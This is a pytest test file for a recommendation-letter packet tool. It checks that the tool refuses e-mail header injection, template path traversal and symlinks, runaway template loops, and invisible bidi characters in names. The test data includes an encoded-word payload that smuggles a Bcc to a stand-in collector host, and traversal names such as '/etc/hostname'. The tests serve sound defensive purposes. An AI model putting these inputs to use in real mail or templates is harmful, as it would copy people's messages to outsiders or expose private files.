"""E-mails that say only what was built: no header injection, no template escaping its
folder, no template running without bound, no invisible characters in a header."""

from __future__ import annotations

import datetime as dt
import email.headerregistry
import os
import re
from email import policy
from email.message import EmailMessage
from email.parser import BytesParser
from pathlib import Path

import pytest
from click.testing import CliRunner

from packetbuilder.cli import main
from packetbuilder.config import parse_config
from packetbuilder.errors import InputError, WorkError
from packetbuilder.mail import Attachment, Draft, build_message, render_draft
from packetbuilder.outbox import Outgoing, hand_over_batch
from packetbuilder.sources import load_application

INJECTION = "=?utf-8?q?=0D=0ABcc:_collector@evil.example?="
PDF = Attachment("Anh_Nguyen_LOR_Packet.pdf", b"%PDF-1.4 test")


def run(*args: str):
    return CliRunner().invoke(main, list(args))


def replace_in_config(folder: Path, old: str, new: str) -> None:
    path = folder / "packet.toml"
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def config_line(folder: Path, fragment: str) -> int:
    lines = (folder / "packet.toml").read_text(encoding="utf-8").splitlines()
    return next(number for number, line in enumerate(lines, 1) if fragment in line)


def write_template(folder: Path, name: str, text: str) -> None:
    (folder / "templates").mkdir(exist_ok=True)
    (folder / "templates" / name).write_text(text, encoding="utf-8")


def draft_for(folder: Path, writer_id: str = "chen", kind: str = "request") -> Draft:
    app = load_application(folder)
    return render_draft(app, app.config.writer(writer_id), kind, dt.date(2026, 8, 1), [PDF])


def parse(data: bytes) -> EmailMessage:
    return BytesParser(policy=policy.default).parsebytes(data)


# -- (1) header injection through encoded words --------------------------------------------

FIELDS = [  # (text in the sample's packet.toml, what it becomes, the key the error names)
    ('name = "Nguyễn Thị Minh Anh"', f'name = "Nguyễn Thị Minh Anh {INJECTION}"', "applicant.name"),
    ('preferred_name = "Anh Nguyen"', f'preferred_name = "Anh {INJECTION}"', "applicant.preferred_name"),
    ('name = "Maya Chen, MD"', f'name = "Maya Chen {INJECTION}"', "name"),
    ('specialty = "Internal Medicine"', f'specialty = "Internal Medicine {INJECTION}"', "specialty"),
    ('email = "anh.nguyen@med.example.edu"', 'email = "a=?b?=c@med.example.edu"', "applicant.email"),
]


@pytest.mark.parametrize("old, new, key", FIELDS, ids=[f[2] for f in FIELDS])
@pytest.mark.parametrize("command", ["check", "build"])
def test_an_encoded_word_in_a_header_field_is_a_located_input_error(sample, tmp_path, command, old, new, key):
    replace_in_config(sample, old, new)
    line = config_line(sample, new.split(" = ")[1][:20])
    result = run(command, str(sample), *(["--out", str(tmp_path / "out")] if command == "build" else []))
    assert result.exit_code == 2, result.output
    assert f"packet.toml:{line}:" in result.output and key in result.output
    assert "'=?'" in result.output and "encoded word" in result.output
    assert "Traceback" not in result.output and not (tmp_path / "out").exists()


def test_an_encoded_word_in_a_template_subject_is_refused_with_its_template(sample, tmp_path):
    write_template(sample, "request.j2", f"Subject: Letter request {INJECTION}\n\nDear {{{{ writer.salutation }}}},\n")
    with pytest.raises(InputError) as caught:
        draft_for(sample)
    problem = caught.value.problems[0]
    assert (problem.file, problem.line) == ("templates/request.j2", 1) and "'=?'" in problem.message
    result = run("check", str(sample))
    assert result.exit_code == 2, result.output
    assert "templates/request.j2:1:" in result.output and "'=?'" in result.output


def test_an_encoded_word_reaching_the_subject_from_a_template_variable_is_refused(sample):
    write_template(sample, "thanks.j2", "Subject: Thanks from {{ applicant.school }} {{ writer.emphasis|join }}\n\n"
                   "Dear {{ writer.salutation }},\n")
    replace_in_config(sample, 'emphasis = [', f'emphasis = ["{INJECTION}", ')
    with pytest.raises(InputError, match=re.escape("'=?'")):
        draft_for(sample, kind="thanks")


def injected_fold(header, *, policy):
    """A Subject folded with a header of its own: what the vulnerable e-mail packages did."""
    folded = email.headerregistry.BaseHeader.fold(header, policy=policy)
    return folded + "Bcc: collector@evil.example\r\n" if header.name.lower() == "subject" else folded


def test_a_message_whose_headers_change_when_read_back_is_never_written(sample, tmp_path, monkeypatch):
    out = tmp_path / "out"
    assert run("build", str(sample), "--out", str(out), "--writer", "chen", "--format", "pdf").exit_code == 0
    (out / "chen" / "request.eml").unlink(missing_ok=True)
    monkeypatch.setattr(email.headerregistry.UnstructuredHeader, "fold", injected_fold, raising=False)
    result = run("email", str(sample), "--writer", "chen", "--out", str(out))
    assert result.exit_code == 2, result.output
    assert "would not arrive as built" in result.output and "bcc" in result.output
    assert not (out / "chen" / "request.eml").exists()


def test_build_message_refuses_a_subject_the_email_package_would_split(sample, monkeypatch):
    """Whatever this Python's e-mail package does with an encoded word, the message is
    refused: by the package's folding itself where it is vulnerable, else by the patch."""
    app = load_application(sample)
    writer = app.config.writer("chen")
    draft = Draft(f"Letter request {INJECTION}", "Dear Dr. Chen,\n", "templates/request.j2")
    monkeypatch.setattr(email.headerregistry.UnstructuredHeader, "fold", injected_fold, raising=False)
    with pytest.raises(InputError, match="would not arrive as built"):
        build_message(app, writer, "request", draft, [PDF], dt.date(2026, 8, 1))


class RecordingTransport:
    via = "smtp"
    server = "127.0.0.1:0"

    def __init__(self) -> None:
        self.handed: list[EmailMessage] = []

    def open(self) -> None:
        pass

    def holds(self, message: EmailMessage) -> bool:
        return False

    def hand_over(self, message: EmailMessage) -> None:
        self.handed.append(message)

    def close(self) -> None:
        pass


def test_a_message_whose_headers_change_when_read_back_is_never_sent(sample, tmp_path, monkeypatch):
    app = load_application(sample)
    writer = app.config.writer("chen")
    message = build_message(app, writer, "request", draft_for(sample), [PDF], dt.date(2026, 8, 1))
    transport = RecordingTransport()
    monkeypatch.setattr(email.headerregistry.UnstructuredHeader, "fold", injected_fold, raising=False)
    with pytest.raises(WorkError, match="would not arrive as built") as caught:
        hand_over_batch([Outgoing(writer, "request", message)], transport, tmp_path / "out")
    assert transport.handed == [] and "not sent: chen" in str(caught.value)


def test_long_non_ascii_names_and_subjects_read_back_the_same(sample):
    app = load_application(sample)
    writer = app.config.writer("chen")
    subject = "Residency LOR Request – Nguyễn Thị Minh Anh, Internal Medicine, “Łódź” " * 4
    message = build_message(app, writer, "request", Draft(subject, "Dear Dr. Chen,\n", "t"), [PDF],
                            dt.date(2026, 8, 1))
    assert parse(message.as_bytes(policy=policy.SMTP))["From"].addresses[0].display_name == "Nguyễn Thị Minh Anh"


# -- (2) one template loader, every name inside its own root -----------------------------------

@pytest.mark.parametrize("name", ["../packet.toml", "../render/../../packet.toml", "/etc/hostname",
                                  "sub/../../packet.toml"])
def test_a_template_name_that_leaves_its_folder_is_refused_where_it_is_used(sample, name):
    write_template(sample, "request.j2", "Subject: Request\n\nDear {{ writer.salutation }},\n"
                   f"{{% include '{name}' %}}\n")
    with pytest.raises(InputError) as caught:
        draft_for(sample)
    problem = caught.value.problems[0]
    assert (problem.file, problem.line) == ("templates/request.j2", 4)
    assert "leaves the templates folder" in problem.message and repr(name) in problem.message


def test_a_package_template_cannot_be_reached_through_dotdot_either(sample):
    write_template(sample, "request.j2", "Subject: Request\n\n{% include '../templates/../../config.py' %}\n")
    with pytest.raises(InputError, match="leaves the templates folder"):
        draft_for(sample)


def test_a_template_linked_from_outside_its_folder_is_refused(sample, tmp_path):
    secret = tmp_path / "private.txt"
    secret.write_text("the private file\n", encoding="utf-8")
    (sample / "templates").mkdir()
    (sample / "templates" / "_secret.j2").symlink_to(secret)
    write_template(sample, "request.j2", "Subject: Request\n\n{% include '_secret.j2' %}\n")
    with pytest.raises(InputError) as caught:
        draft_for(sample)
    assert caught.value.problems[0].file == "templates/_secret.j2"
    assert "outside its templates folder" in caught.value.problems[0].message


def test_a_templates_folder_that_is_a_link_is_refused(sample, tmp_path):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "request.j2").write_text("Subject: x\n\nHello\n", encoding="utf-8")
    (sample / "templates").symlink_to(elsewhere)
    with pytest.raises(InputError, match="templates is a link"):
        draft_for(sample)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs")
def test_only_regular_files_are_read_as_templates(sample):
    (sample / "templates").mkdir()
    os.mkfifo(sample / "templates" / "request.j2")  # reading it would wait forever
    with pytest.raises(InputError) as caught:
        draft_for(sample)
    assert caught.value.problems[0].file == "templates/request.j2"
    assert "not a regular file" in caught.value.problems[0].message


def test_an_oversized_template_is_refused(sample):
    write_template(sample, "request.j2", "Subject: x\n\n" + "Dear colleague.\n" * 40_000)
    with pytest.raises(InputError, match="too large for an e-mail template"):
        draft_for(sample)


def test_shared_macros_are_still_found_in_the_user_folder_then_the_package(sample):
    write_template(sample, "_extra.j2", "{% macro hi() %}Hello from the folder{% endmacro %}")
    write_template(sample, "request.j2", "{% import '_extra.j2' as extra %}{% import '_common.j2' as common %}"
                   "Subject: Request\n\n{{ extra.hi() }}\n")
    assert draft_for(sample).body == "Hello from the folder\n"


# -- (9) rendering is bounded ---------------------------------------------------------------------

def test_nested_large_loops_stop_with_an_error_naming_the_template(sample):
    write_template(sample, "request.j2", "Subject: Request\n\n{% for i in range(100000) %}\n"
                   "{% for j in range(100000) %}{% endfor %}\n{% endfor %}\nDear {{ writer.salutation }},\n")
    with pytest.raises(InputError) as caught:
        draft_for(sample)
    problem = caught.value.problems[0]
    assert problem.file == "templates/request.j2" and problem.line in (3, 4)
    assert "stopped" in problem.message and "100,000 steps" in problem.message


def test_a_loop_in_an_included_template_counts_against_the_same_budget(sample):
    write_template(sample, "_loops.j2", "{% for i in range(60000) %}{% endfor %}")
    write_template(sample, "request.j2", "Subject: Request\n\n{% include '_loops.j2' %}{% include '_loops.j2' %}\n")
    with pytest.raises(InputError, match="stopped") as caught:
        draft_for(sample)
    assert caught.value.problems[0].file == "templates/_loops.j2"


def test_each_email_has_the_whole_budget(sample):
    write_template(sample, "request.j2", "Subject: Request\n\n{% for i in range(90000) %}{% endfor %}Hello\n")
    assert draft_for(sample, "chen").body == draft_for(sample, "okafor").body == "Hello\n"


# -- (11) invisible characters in names ------------------------------------------------------------

def test_invisible_characters_in_names_are_warned_about_and_kept_out_of_headers(sample, tmp_path):
    replace_in_config(sample, 'name = "Maya Chen, MD"', 'name = "Maya \u202eDM ,nehC\u202c \u200bChen"')
    line = config_line(sample, "Maya \u202e")
    result = run("check", str(sample))
    assert result.exit_code in (0, 1), result.output
    assert f"packet.toml:{line}" in result.output and "writers[chen].name holds invisible characters" in result.output
    assert "U+202E" in result.output and "U+200B" in result.output
    out = tmp_path / "out"
    assert run("build", str(sample), "--out", str(out), "--writer", "chen").exit_code == 0
    raw = (out / "chen" / "request.eml").read_bytes()
    to = parse(raw)["To"].addresses[0].display_name
    assert to == "Maya DM ,nehC Chen" and not re.search("[\u200b-\u200f\u202a-\u202e\u2066-\u2069]", to)


def test_invisible_characters_in_a_subject_are_dropped(sample):
    write_template(sample, "request.j2", "Subject: Letter\u200b request \u202eforged\n\nHello\n")
    assert draft_for(sample).subject == "Letter request forged"


def test_an_ordinary_config_is_not_warned_about_invisible_characters(sample):
    parse_config((sample / "packet.toml").read_text(encoding="utf-8"))
    result = run("check", str(sample))
    assert "invisible" not in result.output
